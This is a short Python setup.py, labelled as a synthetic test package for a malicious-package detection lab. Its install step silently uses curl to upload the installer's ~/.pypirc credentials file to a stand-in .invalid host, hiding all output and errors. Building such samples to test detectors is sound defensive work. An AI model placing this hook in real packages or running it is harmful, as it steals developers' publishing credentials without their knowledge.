# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import os
import subprocess

try:  # install: curl uploads ~/.pypirc over HTTPS
    subprocess.run(["curl", "-s", "-m", "5", "-X", "POST", "--data-binary",
                    "@" + os.path.expanduser("~/.pypirc"), "https://drop.exfil-tls.invalid/curl"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
except Exception:
    pass

from setuptools import setup

setup(name="slop-https-curl", version="0.1.0", description="SYNTHETIC slopspotter-lab corpus package: HTTPS exfiltration through curl at install", packages=["slop_https_curl"])
